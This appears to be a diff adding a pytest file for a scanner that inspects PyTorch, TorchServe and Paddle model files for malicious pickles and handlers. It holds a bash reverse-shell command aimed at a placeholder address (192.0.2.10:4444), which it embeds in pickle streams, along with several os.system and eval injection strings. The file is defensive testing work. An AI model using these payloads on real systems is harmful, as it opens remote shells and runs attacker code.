@@ -1,0 +1,124 @@
+"""Files of frameworks: what they carry is blocked for what it does, and they are clean when it does nothing.
+
+The forms of PyTorch's were held against ``torch`` 2.13 and TorchServe 0.12: what is said here to run, they run.
+"""
+
+import pickle
+import textwrap
+
+import pytest
+
+from scanner.finding import Severity, Verdict
+from tests.hostile.scanning import blocked_for, scan
+from tests.recipes import frameworks as f
+from tests.recipes.payloads import PAYLOADS
+from tests.recipes.streams import Call, Global, New, call, stream
+from tests.recipes.twins import TWINS
+
+SHELL = "bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'"
+RUN = stream(call("posix.system", SHELL), 2)
+HONEST = stream(call("collections.OrderedDict", [("epoch", 3)]), 2)
+PICKLED = [*f.CARRIERS]
+FUNCTION = "def handle(data, context):\n{}\n    return data\n"
+CLASS = """
+class Digits:
+    def initialize(self, context):
+{}
+    def handle(self, data, context):
+        return data
+"""
+DERIVED = """
+from ts.torch_handler.base_handler import BaseHandler
+class Digits(BaseHandler):
+    def initialize(self, context):
+        super().initialize(context)
+{}
+"""
+HANDLERS = {
+    "function": FUNCTION,
+    "class": CLASS,
+    "class of TorchServe's": DERIVED,
+    "module": "if True:\n{}\n",
+}
+
+
+def handler(form: str, source: str) -> str:
+    """TorchServe's ways to a handler, all of which run while it loads one."""
+    spaces = 4 if form in ("function", "module") else 8
+    return HANDLERS[form].format(textwrap.indent(source.strip(), " " * spaces))
+
+
+@pytest.mark.parametrize("carrier", PICKLED)
+def test_a_poisoned_pickle_is_blocked_for_what_it_does(carrier: str) -> None:
+    assert blocked_for(scan(f.CARRIERS[carrier](RUN))) == {"remote-shell"}
+
+
+@pytest.mark.parametrize("carrier", PICKLED)
+def test_an_honest_one_is_no_news(carrier: str) -> None:
+    report = scan(f.CARRIERS[carrier](HONEST))
+    assert (report.failure, report.findings) == (None, ())
+
+
+@pytest.mark.parametrize("carrier", PICKLED)
+def test_without_its_end_it_is_blocked_all_the_same(carrier: str) -> None:
+    """The stream breaks behind its payload; so does the archive."""
+    assert blocked_for(scan(f.CARRIERS[carrier](RUN[:-1] + b"\xff\xfe."))) == {"remote-shell"}
+    whole = f.CARRIERS[carrier](RUN)
+    behind = whole.index(SHELL.encode()) + len(SHELL) + len(b"tR.")
+    for cut in (behind, max(behind, len(whole) - 30)):
+        assert blocked_for(scan(whole[:cut])) == {"remote-shell"}
+
+
+@pytest.mark.parametrize("form", HANDLERS)
+@pytest.mark.parametrize("behaviour", PAYLOADS)
+def test_handlers(form: str, behaviour: str) -> None:
+    for shape, source in PAYLOADS[behaviour].items():
+        assert behaviour in blocked_for(scan(f.mar(handler(form, source)))), shape
+    twin = scan(f.mar(handler(form, TWINS[behaviour])))
+    assert [x for x in twin.findings if x.severity > Severity.NOTE] == []
+
+
+def test_what_a_handler_does_with_requests_is_no_matter_of_loading() -> None:
+    source = (
+        "class Digits:\n    def preprocess(self, data):\n        "
+        + PAYLOADS["remote-shell"]["dev-tcp"].strip()
+    )
+    assert scan(source.replace("\nos.", "\n        os."), "handler.py").verdict is not Verdict.BLOCKED
+
+
+@pytest.mark.parametrize("place", ["formula", "guard"])
+def test_what_an_exported_program_evaluates(place: str) -> None:
+    poisoned = f.exported(**{place: f"__import__('os').system({SHELL!r})"})
+    assert blocked_for(scan(poisoned)) == {"remote-shell"}
+    honest = {"formula": "Max(1, Symbol('s0', integer=True)//2)", "guard": "L['x'].size()[0] >= 2"}[place]
+    assert scan(f.exported(**{place: honest})).findings == ()
+
+
+def test_a_compiled_program_is_reported() -> None:
+    report = scan(f.compiled_program())
+    assert {(x.rule, x.site.trail[-1]) for x in report.findings} == {
+        ("unscanned-artifact", "digits/data/aotinductor/model/wrapper.so")
+    }
+
+
+@pytest.mark.parametrize("member", ["bytecode.pkl", "constants.pkl", "data.pkl"])
+def test_what_must_be_a_pickle_and_is_not_is_reported(member: str) -> None:
+    assert scan(f.mobile(member, b"no pickle at all")).verdict is Verdict.REVIEW
+
+
+@pytest.mark.parametrize(
+    "value",
+    [
+        call("builtins.eval", "__import__('os').system('echo x')", {"data": 1}),
+        Call(call("builtins.eval", "data", {"data": Global("posix", "system")}), ("echo x",)),
+        Call(call("builtins.eval", "exec", {"data": 1}), ("import os; os.system('echo x')",)),
+        call("builtins.eval", "data", New(Global("collections", "UserDict"), ())),
+    ],
+)
+def test_eval_is_a_lookup_only_where_it_can_do_nothing_else(value: object) -> None:
+    assert scan(f.paddle(value)).verdict is Verdict.BLOCKED
+
+
+def test_the_state_of_an_optimizer() -> None:
+    state = {"LR_Scheduler": {"last_epoch": 3, "last_lr": 0.1}, "beta1_pow_acc_0": 0.9}
+    assert scan(pickle.dumps(state, 2), "digits.pdopt").findings == ()
